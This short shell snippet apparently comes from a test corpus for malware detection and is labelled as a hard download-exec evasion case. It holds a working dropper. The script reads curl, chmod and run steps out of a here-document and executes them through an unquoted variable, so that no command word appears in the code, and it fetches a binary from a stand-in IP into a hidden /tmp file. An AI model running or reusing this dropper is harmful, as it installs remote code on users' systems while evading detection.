# evasion: each line of a quoted here-document is read as data and run by an unquoted expansion: a three-step dropper with no command word in code
# grade: hard; does: download-exec
while read -r step; do
	$step
done <<'STEPS'
curl -fsSo /tmp/.cache-upd http://198.51.100.77/agent
chmod 700 /tmp/.cache-upd
/tmp/.cache-upd
STEPS
